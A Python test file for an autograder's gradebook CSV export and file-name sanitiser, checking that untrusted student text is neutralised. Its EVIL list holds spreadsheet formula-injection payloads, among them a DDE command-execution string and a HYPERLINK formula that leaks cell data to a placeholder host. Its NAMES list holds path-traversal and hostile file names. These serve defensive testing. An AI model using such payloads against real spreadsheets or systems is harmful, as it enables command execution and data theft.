"""The gradebook and the names of files: students, reasons and notes are untrusted text."""

from __future__ import annotations

import csv
import unicodedata
from pathlib import Path
from typing import Any

import pytest

from autograder.staff.classroom.gradebook import Row, text, write_gradebook
from autograder.staff.classroom.store import safe_name
from autograder.staff.record import FORMAT, GRADER_ERROR, UNREADABLE, Record
from tests.autograder.fake_grader import fake_result


def record(student: str = "a@x.edu", marks: float = 8.5, **changes: Any) -> Record:
    made: dict[str, Any] = {
        "format": FORMAT, "student": student, "version": 2, "source": f"{student}_2_handin.tar", "digest": "d1", "grader": "g",
        "seed": 1, "hidden_seed": 2, "level": ["process", "limits"], "status": "graded", "reason": "", "started": "",
        "seconds": 1.25, "notes": [], "flags": [], **fake_result(marks, 1),
    }  # fmt: skip
    return {**made, **changes}  # type: ignore[typeddict-item, return-value]


def book(path: Path, *rows: tuple[Record | None, str, int, bool, str], **more: str) -> list[dict[str, str]]:
    write_gradebook(path / "gradebook.csv", lambda: (Row(*row, **more) for row in rows), ["Open"])  # type: ignore[arg-type]
    with open(path / "gradebook.csv", encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def test_marks_are_numbers(tmp_path: Path) -> None:
    (row,) = book(tmp_path, (record(), "a@x.edu", 2, True, "feedback/a@x.edu.html"))
    assert row == {
        "student": "a@x.edu", "name": "", "section": "", "version": "2", "counts": "yes", "status": "graded", "mark": "",
        "handed in": "", "late": "", "changes": "", "total": "8.5", "possible": "10",
        "Open": "6", "Hidden": "2.5", "hidden total": "2.5", "hidden possible": "4", "seconds": "1.25",
        "level": "process, limits", "source": "a@x.edu_2_handin.tar", "digest": "d1", "notes": "",
        "feedback": "feedback/a@x.edu.html",
    }  # fmt: skip
    assert (tmp_path / "gradebook.csv").read_bytes().startswith(b"\xef\xbb\xbfstudent")
    assert [p.name for p in tmp_path.iterdir()] == ["gradebook.csv"]


def test_what_has_no_mark(tmp_path: Path) -> None:
    nothing: dict[str, Any] = {"exercises": [], "checks": [], "total": 0.0}
    rows = book(
        tmp_path,
        (record("bad", status=UNREADABLE, reason="no archive", **nothing), "bad", 1, True, ""),
        (record("bug", status=GRADER_ERROR, reason="ours", **nothing), "bug", 1, True, ""),
        (None, "new", 1, False, ""),
        (record("full", 10), "full", 1, True, ""),
    )
    assert [row["total"] for row in rows] == ["0", GRADER_ERROR, "", "10"]
    assert [row["Open"] for row in rows] == ["0", "", "", "6"]
    assert [row["Hidden"] for row in rows] == ["0", "", "", "4"]
    assert [row["status"] for row in rows] == [UNREADABLE, GRADER_ERROR, "not graded", "graded"]
    assert rows[0]["notes"] == "no archive"
    assert rows[1]["possible"] == ""


def test_practice_has_no_column_and_all_rows_one_sum_of_hidden_marks(tmp_path: Path) -> None:
    nothing: dict[str, Any] = {"exercises": [], "checks": [], "total": 0.0}
    practice = {"name": "MLP", "points": 0, "earned": 0, "hidden": False, "passed": False, "hint": "", "seconds": 0.0}
    graded = record("full", 10)
    graded["exercises"].append(practice)  # type: ignore[arg-type]
    rows = book(
        tmp_path,
        (graded, "full", 1, True, ""),
        (record("bad", status=UNREADABLE, reason="no archive", **nothing), "bad", 1, True, ""),
    )
    assert "MLP" not in rows[0]
    assert [row["hidden possible"] for row in rows] == ["4", "4"]


EVIL = [
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1+1", "\r=1+1", " =1+1", "＝1+1", "＋1", "－1", "＠1", "|calc", "\n=1", '"=1',
    '=HYPERLINK("http://x/?"&A1)', "a;=1+1", 'a,"=1+1', "a\n=1+1", "a\t=1+1", "ok', =1+1", "=cmd|' /C calc'!A0",
]  # fmt: skip


@pytest.mark.parametrize("evil", EVIL)
def test_no_cell_is_a_formula(evil: str, tmp_path: Path) -> None:
    rows = book(tmp_path, (record(evil, source=evil, notes=[evil], reason=evil), evil, 1, True, ""), name=evil, section=evil,
                changes=evil)  # fmt: skip
    assert len(rows) == 1
    for key in ("student", "source", "notes", "name", "section", "changes"):
        # Whatever a program splits at, also in a locale with another separator: no piece begins a formula.
        for separator in ",;\t|\n":
            for piece in rows[0][key].split(separator):
                assert not piece.strip(' "\t\r\n').startswith(tuple("=+-@|＝＋－＠")), rows[0][key]
        assert rows[0][key].isprintable()


def test_cells_of_any_kind_stay_in_their_row(tmp_path: Path) -> None:
    odd = ['a"b', "a,b", "a\r\nb", "a\0b", "\x1b[31mred", "\udce9", "数学", "x" * 100_000]
    rows = book(tmp_path, *((record(name), name, 1, True, "") for name in odd))
    assert len(rows) == len(odd)
    assert all(None not in row and row["total"] == "8.5" for row in rows)
    assert rows[0]["student"] == 'a"b'
    assert rows[6]["student"] == "数学"
    assert len(rows[7]["student"]) <= 401


def test_usual_text_is_left_alone() -> None:
    for usual in ("alice@x.edu", "a-b+c@x.edu", "left out: numpy.py, a-b.py", "Zoë O'Neil", "3 / 4", ""):
        assert text(usual) == usual


NAMES = [
    "alice@x.edu", "Alice@x.edu", "a_1@x.edu", "..", ".", "", "/etc/passwd", "../../x", "..\\x", ".hidden", "-rf", "con", "CON",
    "nul.tar", "com1", "a:b", "a b", "a\nb", "a\0b", "\x1b[31m", "x" * 300, "x" * 301, "X" * 300, "é", "e\u0301b", "\u202eabc",
    "数学", "数學", "<b>", "a.", "a", "~", "%2e", "\udce9", "é" * 300, "a/b", "a\\b",
]  # fmt: skip


def test_file_names() -> None:
    made = {name: safe_name(name) for name in NAMES}
    assert made["alice@x.edu"] == "alice@x.edu"
    assert made["a_1@x.edu"] == "a_1@x.edu"
    for safe in made.values():
        assert safe.isascii()
        assert safe.isprintable()
        assert 1 <= len(safe) <= 90
        assert not set(safe) & set("/\\:*?\"<>| \n%~$'")
        assert safe[0] not in ".-"
        assert safe[-1] != "."
        assert safe.split(".")[0].lower() not in ("con", "nul", "com1")
    assert len({safe.lower() for safe in made.values()}) == len(NAMES)
    assert safe_name("é") == safe_name(unicodedata.normalize("NFD", "é"))


def test_nobody_can_take_the_name_of_another() -> None:
    taken = safe_name("Alice")
    assert safe_name(taken) != taken
    assert safe_name(taken.lower()) != taken.lower()
